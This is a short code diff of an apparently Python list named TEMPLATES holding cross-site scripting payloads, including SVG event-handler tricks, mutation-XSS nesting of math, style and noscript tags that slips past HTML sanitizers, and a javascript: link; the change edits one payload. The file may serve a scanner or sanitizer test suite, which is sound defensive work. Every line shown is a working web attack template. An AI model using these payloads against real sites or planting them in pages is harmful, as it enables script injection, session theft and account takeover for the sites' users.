@@ -17,7 +17,7 @@ TEMPLATES: Final = (
     "<svg><g/onload={x}><animate onbegin={x} attributeName=x dur=1s>",
     "<svg><style><img src=1 onerror={x}></style></svg>",
     "<svg></p><style><a id='</style><img src=1 onerror={x}>'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={x}&gt;'>",
+    "<math><mtext><table><mglyph><style><!--</style><p title='--&gt;&lt;img src onerror={x}&gt;'>",
     "<math><mi xlink:href='javascript:{x}'>press</mi></math>",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror={x}>",
     "<noscript><p title='</noscript><img src=x onerror={x}>'>",
